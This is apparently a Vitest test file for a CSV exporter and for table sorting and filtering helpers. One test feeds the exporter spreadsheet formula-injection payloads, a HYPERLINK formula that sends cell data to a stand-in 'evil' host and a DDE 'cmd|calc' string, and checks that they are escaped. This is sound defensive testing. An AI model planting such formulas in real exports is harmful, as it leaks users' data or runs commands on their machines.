import { describe, expect, it } from 'vitest';
import { compareCells, filtered, nextSort, sorted } from './order';
import { fileName, toCsv } from './sheet';

describe('toCsv', () => {
  it('quotes what would break a line and writes figures without a locale', () => {
    const csv = toCsv({
      head: ['what', 'ms', 'ok'],
      rows: [
        ['says "no", twice', 1234567.5, true],
        ['two\nlines', null, false],
        ['plain', Number.POSITIVE_INFINITY, true],
      ],
    });
    expect(csv).toBe('what,ms,ok\r\n"says ""no"", twice",1234567.5,true\r\n"two\nlines",,false\r\nplain,,true\r\n');
  });

  it('keeps spreadsheets from computing texts, and leaves figures as they are', () => {
    const csv = toCsv({
      head: ['host', 'ms'],
      rows: [
        ['=HYPERLINK("http://evil/?"&A2)', -5],
        ["'+cmd|calc!A1", 0],
      ],
    });
    expect(csv).toBe('host,ms\r\n"\'=HYPERLINK(""http://evil/?""&A2)",-5\r\n\'\'+cmd|calc!A1,0\r\n');
  });

  it('names files so that every system takes them', () => {
    expect(fileName('r-1', 'office/calc open') + '.csv').toBe('r-1-office-calc-open.csv');
  });
});

describe('order', () => {
  it('sorts figures by size and keeps what is missing last in both directions', () => {
    const rows = [10, null, 9, 100];
    expect(sorted(rows, r => r, false)).toEqual([9, 10, 100, null]);
    expect(sorted(rows, r => r, true)).toEqual([100, 10, 9, null]);
  });

  it('sorts what is infinite beyond all figures, and apart from what is missing', () => {
    const rows = [Infinity, 10, null, Infinity, 100];
    expect(sorted(rows, r => r, true)).toEqual([Infinity, Infinity, 100, 10, null]);
    expect(sorted(rows, r => r, false)).toEqual([10, 100, Infinity, Infinity, null]);
  });

  it('sorts numbers inside words by size', () => {
    expect(compareCells('vm10', 'vm9')).toBeGreaterThan(0);
  });

  it('keeps the order of equal rows', () => {
    const rows = [
      { k: 1, n: 'a' },
      { k: 0, n: 'b' },
      { k: 1, n: 'c' },
    ];
    expect(sorted(rows, r => r.k, true).map(r => r.n)).toEqual(['a', 'c', 'b']);
  });

  it('wants all words of a filter, in any case', () => {
    const rows = ['office/calc open', 'office/writer open'];
    expect(filtered(rows, r => r, ' OPEN calc ')).toEqual(['office/calc open']);
    expect(filtered(rows, r => r, '')).toBe(rows);
  });

  it('turns round on a second click', () => {
    const first = nextSort(null, 'p95', true);
    expect(first).toEqual({ column: 'p95', descending: true });
    expect(nextSort(first, 'p95', true).descending).toBe(false);
    expect(nextSort(first, 'name', false)).toEqual({ column: 'name', descending: false });
  });
});
